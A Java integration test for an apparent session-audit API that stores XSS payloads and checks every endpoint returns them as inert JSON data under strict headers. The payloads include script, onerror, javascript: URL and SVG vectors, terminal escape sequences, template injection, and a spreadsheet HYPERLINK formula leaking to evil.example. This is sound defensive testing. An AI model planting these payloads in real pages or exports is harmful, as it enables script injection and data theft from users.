package dev.vigil.query;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

import dev.vigil.embedded.junit.OpenSearchExtension;
import dev.vigil.embedded.opensearch.EmbeddedOpenSearch;
import dev.vigil.query.fixture.Docs;
import dev.vigil.query.fixture.RecordedSession;
import dev.vigil.query.impl.UiRoutes;
import dev.vigil.schema.Effect;

/**
 * Attack suite, stored XSS (API side; the browser side is UiBrowserIT): recorded bodies, terminal output, an LLM
 * prompt and an alert description carrying markup, script URLs, SVG, escaped markup, terminal escape sequences (OSC 8
 * hyperlinks) and spreadsheet formulas. Every endpoint answers them as data — JSON (or NDJSON, asciicast, SSE), never
 * a type a browser renders, with {@code nosniff} and a sandboxing CSP — and keeps each payload verbatim as evidence:
 * full-text search finds it and the detail, transcript, replay, export and alerts return it byte for byte.
 */
@ExtendWith(OpenSearchExtension.class)
class StoredXssIT {

  static final List<String> PAYLOADS = List.of(
      "<script>window.__xss='script'</script>",
      "<img src=x onerror=\"window.__xss='img'\">",
      "<a href=\"javascript:window.__xss='js-url'\">open</a>",
      "</script><script>window.__xss='close'</script>",
      "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.__xss='svg'\"><script>window.__xss='svg2'</script></svg>",
      "\\u003cscript\\u003ewindow.__xss='unicode'\\u003c/script\\u003e",
      "=HYPERLINK(\"http://evil.example/?leak\",\"details\")",
      "{{constructor.constructor('window.__xss=1')()}}");
  static final String TERMINAL = "\u001b]8;;javascript:window.__xss='osc8'\u0007click me\u001b]8;;\u0007 \u001b[31mred\u001b[0m"
      + " \u001b]0;<script>window.__xss='title'</script>\u0007 <img src=x onerror=window.__xss=9>\r\n";
  static final String PROMPT = "<img src=x onerror=window.__xss=prompt>";

  private static ApiHarness h;
  private static RecordedSession session;
  private static String exec;
  private static String analyst;

  @BeforeAll
  static void start(EmbeddedOpenSearch os) throws Exception {
    h = new ApiHarness(os, Map.of());
    session = new RecordedSession("agent-x/xss", "agent-x", 0, SessionsScenario.T0, h.partitions);
    session.kube("create", "configmaps", "default", "notes", null, null, Effect.ALLOW, 201,
        String.join("\n", PAYLOADS), String.join("\n", PAYLOADS));
    exec = session.exec("default", "web-0", "sh", List.of(TERMINAL), null);
    session.llm(PROMPT, "ok", "kubectl");
    h.index.events(session.events());
    h.index.documents(h.index.sessionsIndex, Map.of(session.sessionId(),
        Docs.session(session, true, h.keys, ApiHarness.KEY_ID, 1)));
    h.index.documents(h.index.alertsIndex, Map.of("alert-xss", Docs.alert("alert-xss", "secret-leakage", "HIGH", session,
        List.of(session.events().get(0).event().getEventId()), "wrote: " + String.join(" ", PAYLOADS),
        session.events().get(0).event().getTime())));
    analyst = h.analyst();
  }

  @AfterAll
  static void stop() throws Exception {
    if (h != null) {
      h.close();
    }
  }

  private static Http.Reply get(String path, String contentType) {
    Http.Reply r = path.startsWith("POST ") ? h.http.post(path.substring(5), analyst) : h.http.get(path, analyst);
    assertThat(r.status()).as("%s → %s", path, r.text()).isEqualTo(200);
    assertThat(r.header("Content-Type")).as(path).startsWith(contentType).doesNotContain("html");
    assertThat(r.header("X-Content-Type-Options")).as(path).isEqualTo("nosniff");
    assertThat(r.header("Content-Security-Policy")).as(path).isEqualTo("default-src 'none'; frame-ancestors 'none'; sandbox");
    assertThat(r.header("Cache-Control")).as(path).isEqualTo("no-store");
    return r;
  }

  /** Every string value in a JSON tree, concatenated: what a client sees once the JSON is decoded. */
  private static String strings(Object json) {
    StringBuilder sb = new StringBuilder();
    if (json instanceof JsonObject o) {
      o.forEach(e -> sb.append(strings(e.getValue())).append('\n'));
    } else if (json instanceof JsonArray a) {
      a.forEach(v -> sb.append(strings(v)).append('\n'));
    } else if (json instanceof String s) {
      sb.append(s);
    }
    return sb.toString();
  }

  private static String ndjsonStrings(String body) {
    StringBuilder sb = new StringBuilder();
    for (String line : body.split("\n")) {
      if (!line.isBlank()) {
        sb.append(strings(line.startsWith("[") ? new JsonArray(line) : new JsonObject(line))).append('\n');
      }
    }
    return sb.toString();
  }

  @Test
  void shouldAnswerStoredPayloadsAsDataFromEveryEndpointAndKeepThemVerbatim() {
    String id = SessionsScenario.path(session.sessionId());
    String key = "/api/v1/sessions/" + URLEncoder.encode(session.sessionKey(), StandardCharsets.UTF_8);
    List<String> jsonPaths = List.of(id, id + "/transcript", "POST " + id + "/verify", "/api/v1/sessions?q=onerror",
        "/api/v1/alerts?q=HYPERLINK", "/api/v1/events?q=onerror", key + "/events", "/api/openapi.json");
    Map<String, String> decoded = new java.util.LinkedHashMap<>();
    for (String path : jsonPaths) {
      decoded.put(path, strings(get(path, "application/json").body()));
    }
    for (String p : PAYLOADS) {
      assertThat(decoded.get(id)).as("detail keeps %s", p).contains(p);
      assertThat(decoded.get(id + "/transcript")).as("transcript keeps %s", p).contains(p);
      assertThat(decoded.get("/api/v1/events?q=onerror")).as("search finds %s", p).contains(p);
      assertThat(decoded.get(key + "/events")).contains(p);
      assertThat(decoded.get("/api/v1/alerts?q=HYPERLINK")).as("alert keeps %s", p).contains(p);
    }
    assertThat(decoded.get(id)).contains(PROMPT);
    assertThat(decoded.get(id + "/transcript")).as("the stream step carries the terminal text").contains(PROMPT,
        "javascript:window.__xss='osc8'", "<script>window.__xss='title'</script>", "onerror=window.__xss=9");
    assertThat(decoded.get("/api/v1/sessions?q=onerror")).contains(session.sessionId());
    assertThat(decoded.get("POST " + id + "/verify")).contains("signature valid"); // the evidence is intact

    String cast = get(id + "/exec/" + exec + ".cast", "application/x-asciicast").text();
    assertThat(ndjsonStrings(cast)).as("the replay keeps the terminal bytes (the player interprets them)").contains(TERMINAL);
    String export = get(id + "/export", "application/x-ndjson").text();
    for (String p : PAYLOADS) {
      assertThat(ndjsonStrings(export)).as("export keeps %s (NDJSON: no spreadsheet evaluates it)", p).contains(p);
    }
    String tail = get(id + "/tail", "text/event-stream").text();
    assertThat(tail).contains("event: vigil-end");
  }

  @Test
  void shouldServeTheUiWithTheStrictPolicyAndErrorsWithoutMarkup() {
    for (String path : List.of("/", "/ui/app.js", "/ui/player.js", "/ui/dom.js", "/ui/style.css", "/ui/missing.js")) {
      Http.Reply r = h.http.get(path, null);
      assertThat(r.header("Content-Security-Policy")).as(path).isEqualTo(UiRoutes.CONTENT_SECURITY_POLICY);
      assertThat(r.header("X-Content-Type-Options")).as(path).isEqualTo("nosniff");
      assertThat(r.header("X-Frame-Options")).as(path).isEqualTo("DENY");
    }
    List<String> reflected = new ArrayList<>();
    for (String path : List.of("/api/v1/sessions/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/api/v1/alerts?severity=%3Csvg%3E",
        "/api/v1/%3Cimg%20src=x%3E")) {
      Http.Reply r = h.http.get(path, analyst);
      assertThat(r.status()).as(path).isIn(400, 404);
      assertThat(r.header("X-Content-Type-Options")).isEqualTo("nosniff");
      assertThat(r.text()).as("no markup in the error body").doesNotContain("<");
      reflected.add(r.body().getJsonObject("error").getString("message"));
    }
    assertThat(reflected).anyMatch(m -> m.contains("<script>")); // the message still quotes what was asked
  }
}
